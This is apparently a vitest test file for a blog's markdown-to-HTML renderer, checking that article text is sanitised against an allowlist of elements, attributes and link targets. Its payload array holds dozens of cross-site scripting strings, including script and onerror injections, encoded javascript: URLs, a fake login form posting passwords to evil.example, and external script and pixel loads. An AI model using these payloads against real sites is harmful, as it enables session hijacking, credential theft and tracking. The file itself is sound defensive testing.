/** Whatever an article's text says, nothing of it runs, and nothing of it looks like a part of the page. */
import { render, screen } from '@testing-library/react';
import { MemoryRouter } from 'react-router-dom';
import { describe, expect, it } from 'vitest';
import { paths } from '../../src/contract/paths.ts';
import { ArticleText } from '../../src/features/blogs/ArticleText.tsx';
import { post } from '../support/screens/articles-page.ts';
import { screenBed } from '../support/screens/screen.tsx';

const { server, browser, network } = await screenBed();

/** Elements that text may become, and the attributes that each may carry. */
const harmless: Readonly<Record<string, readonly string[]>> = {
  ...Object.fromEntries(
    'p h2 h3 h4 h5 h6 ul li strong em blockquote pre hr br table thead tbody tr td span'.split(' ').map((tag) => [tag, []]),
  ),
  a: ['href', 'target', 'rel', 'data-discover'],
  img: ['src', 'alt', 'loading'],
  code: ['class'],
  ol: ['start'],
  th: ['scope'],
  div: ['role', 'aria-label', 'tabindex', 'class'],
};

function faultsIn(root: Element): string[] {
  return [...root.querySelectorAll('*')].flatMap((element) => {
    const tag = element.tagName.toLowerCase();
    const allowed = tag in harmless ? (harmless[tag] ?? []) : [];
    const attributes = element
      .getAttributeNames()
      .filter((name) => !allowed.includes(name) && !(tag === 'span' && name === 'class'));
    return [...(tag in harmless ? [] : [tag]), ...attributes.map((name) => `${tag}[${name}]`), ...addressFault(element)];
  });
}

const safeRel = 'noopener noreferrer nofollow';

function addressFault(element: Element): string[] {
  const href = element.getAttribute('href');
  const src = element.getAttribute('src');
  const isAway = href !== null && !href.startsWith('/');
  const isSafeAway =
    isAway && (/^(mailto:|tel:)/.test(href) || (/^https?:\/\//.test(href) && element.getAttribute('rel') === safeRel));
  const isOwnPicture = src === null || /^\/(?![/\\])/.test(src);
  return [...(isAway && !isSafeAway ? [`href ${href}`] : []), ...(isOwnPicture ? [] : [`src ${src}`])];
}

function drawn(markdown: string): HTMLElement {
  const { container } = render(
    <MemoryRouter>
      <ArticleText>{markdown}</ArticleText>
    </MemoryRouter>,
  );
  return container;
}

const payloads = [
  '<script>alert(1)</script>',
  'before <script src="https://evil.example/x.js"></script> after',
  '<ScRiPt\n>alert(1)</sCrIpT\n>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)" style="position:fixed;inset:0">',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="//evil.example/x.swf">',
  '<a href="javascript:alert(1)" onclick="alert(1)">x</a>',
  '<form action="https://evil.example"><input name="password"><button>Log in</button></form>',
  '<style>body{display:none}</style><link rel="stylesheet" href="//evil.example/x.css">',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<details open ontoggle=alert(1)>x</details>',
  '<!-- --><img src=x onerror=alert(1)><!-- -->',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?php echo "<script>alert(1)</script>" ?>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))',
  '[x](&#x6A;avascript&#0000058alert(1))',
  '[x](java&Tab;script:alert(1))',
  '[x](<java\tscript:alert(1)>)',
  '[x](\u0001javascript:alert(1))',
  '[x](javascript%3Aalert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](vbscript:msgbox(1))',
  '[x](blob:http://localhost/1)',
  '[x](//evil.example)',
  '[x](/\\evil.example)',
  '[x][1]\n\n[1]: javascript:alert(1) "title"',
  '[x](https://good.example "\\" onmouseover=alert(1) x=\\"")',
  '<javascript:alert(1)>',
  '<data:text/html,hello>',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '![x](https://evil.example/pixel.gif)',
  '![x](//evil.example/pixel.gif)',
  '![x" onerror="alert(1)](/a.png)',
  '[![x](data:text/html,1)](javascript:alert(1))',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '`<script>alert(1)</script>`',
  '```html\n<script>alert(1)</script>\n```',
  '```" onmouseover="alert(1)\nx\n```',
  '| <img src=x onerror=alert(1)> | b |\n| --- | --- |\n| [x](javascript:alert(1)) | <script>alert(1)</script> |',
  '# <script>alert(1)</script>',
  '- <iframe src=javascript:alert(1)>\n- [x](javascript:alert(1))',
  '> <svg/onload=alert(1)>',
  '**<img src=x onerror=alert(1)>**',
];

describe('hostile text', () => {
  it.each(payloads)('does nothing: %j', (markdown) => {
    expect(faultsIn(drawn(markdown))).toEqual([]);
  });

  it('would be seen by these tests if it came through', () => {
    const page = document.createElement('div');
    page.innerHTML =
      '<script></script><img src="x" onerror="x"><a href="javascript:x">x</a><a href="https://x.example">x</a><p style="x">x</p><svg></svg>';
    expect(faultsIn(page)).toEqual([
      'script',
      'img[onerror]',
      'src x',
      'href javascript:x',
      'href https://x.example',
      'p[style]',
      'svg',
    ]);
  });

  it('does nothing on the page of its article, wherever in it', async () => {
    const hostile = '<img src=x onerror=alert(1)>';
    const article = post({
      id: 'x',
      title: `Title ${hostile}`,
      excerpt: hostile,
      categoryName: hostile,
      author: { name: hostile, role: hostile, avatar: 'javascript:alert(1)' },
      tags: [hostile, '"><script>alert(1)</script>'],
      imageUrl: 'javascript:alert(1)',
      content: `Begin\n\n${payloads.join('\n\n')}\n\nEnd`,
    });
    network.answerNext('GET', '/blogs/x', { status: 'success', data: article });
    network.answerNext('GET', paths.blogs, { status: 'success', data: { blogs: [article] } });
    await browser.opens('/blogs/x', await server.customer());
    expect(await screen.findByText('Begin')).toBeVisible();
    const main = screen.getByRole('main');
    expect(
      main.querySelectorAll('script, iframe, object, embed, form, style, link, [onerror], [onclick], [onload]'),
    ).toHaveLength(0);
    const addresses = [...main.querySelectorAll('[href], [src]')].flatMap((element) => addressFault(element));
    expect(addresses).toEqual([]);
    expect(main.querySelectorAll('img')).toHaveLength(1);
  });
});

describe('plain text', () => {
  it('keeps its form, with its headings below that of the page', () => {
    drawn('# First\n\nSome **strong** and *soft* words.\n\n### Second\n\n- one\n- two\n\n1. three\n\n> said');
    expect(screen.getByRole('heading', { level: 2, name: 'First' })).toBeVisible();
    expect(screen.getByRole('heading', { level: 3, name: 'Second' })).toBeVisible();
    expect(screen.getAllByRole('listitem')).toHaveLength(3);
    expect(screen.getByText('strong').tagName).toBe('STRONG');
    expect(screen.getByText('said').closest('blockquote')).not.toBeNull();
  });

  it('begins at the second level too where its highest heading is lower', () => {
    drawn('## Part\n\n### Detail\n\n## Next');
    const levels = screen.getAllByRole('heading').map(({ tagName }) => tagName);
    expect(levels).toEqual(['H2', 'H3', 'H2']);
  });

  it('may hold tables, with links and signs in their cells', () => {
    drawn('See here:\n| Value | Means |\n|:---|---:|\n| below **5.7** % | [normal](/tests) |\n| `a|b` |\n\nAfter.');
    expect(screen.getByText('See here:').tagName).toBe('P');
    expect(screen.getAllByRole('columnheader').map(({ textContent }) => textContent)).toEqual(['Value', 'Means']);
    expect(screen.getAllByRole('cell').map(({ textContent }) => textContent)).toEqual(['below 5.7 %', 'normal', 'a|b', '']);
    expect(screen.getByRole('link', { name: 'normal' })).toHaveAttribute('href', '/tests');
    expect(screen.getByRole('group', { name: 'Table' })).toHaveAttribute('tabindex', '0');
  });

  it.each(['a | b\nc | d', '| a | b |\n| --- |\n| c | d |', '--- | ---'])('with pipes alone is no table: %j', (markdown) => {
    drawn(markdown);
    expect(screen.queryByRole('table')).toBeNull();
  });

  it('opens other sites beside the page, and says so', () => {
    drawn('[The WHO](https://www.who.int/news), [mail](mailto:a@b.in)');
    const link = screen.getByRole('link', { name: 'The WHO, opens in a new tab' });
    expect(link).toHaveAttribute('target', '_blank');
    expect(link).toHaveAttribute('rel', 'noopener noreferrer nofollow');
    expect(screen.getByRole('link', { name: 'mail' })).not.toHaveAttribute('target');
  });

  it('shows pictures of our own', () => {
    drawn('![A tube](/article-covers/tube.svg)');
    expect(screen.getByRole('img', { name: 'A tube' })).toHaveAttribute('src', '/article-covers/tube.svg');
  });
});
